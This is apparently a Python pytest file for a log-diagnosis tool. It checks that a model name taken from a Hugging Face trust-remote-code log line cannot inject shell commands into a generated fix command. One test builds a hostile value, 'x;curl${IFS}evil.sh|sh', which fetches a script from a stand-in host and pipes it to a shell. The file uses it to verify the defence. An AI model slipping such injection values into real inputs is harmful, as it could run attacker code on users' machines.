"""A value a log puts into a fix command must not be able to run anything when the command is pasted."""

from __future__ import annotations

from conftest import FIXTURES

from diagnose import api


def _real_line() -> str:
    # the real line from the fixture, as transformers prints it
    for path in FIXTURES.glob("trust-remote-code--*/*"):
        for line in path.read_text(errors="replace").splitlines():
            if "requires you to execute the configuration file" in line:
                return line
    raise AssertionError("no fixture line")


def test_a_hostile_model_name_stays_a_blank_in_the_command_and_is_quoted_in_prose(kb):
    line = _real_line()
    hostile = line.replace(line.split("Loading ", 1)[1].split(" requires", 1)[0], "x;curl${IFS}evil.sh|sh")
    assert hostile != line
    finding = api.diagnose_texts([("server.log", hostile)], kb=kb).findings[0]
    assert finding.rule_id == "trust-remote-code"
    commands = [step.get("run", "") for step in finding.fix]
    assert commands and not any("curl" in c or "|sh" in c for c in commands)
    assert any(step.get("unresolved") for step in finding.fix)  # said to be filled in, not silently dropped
    # the plain name from the real line is still filled in
    plain = api.diagnose_texts([("server.log", line)], kb=kb).findings[0]
    assert any("Qwen-7B-Chat" in step.get("run", "") for step in plain.fix)
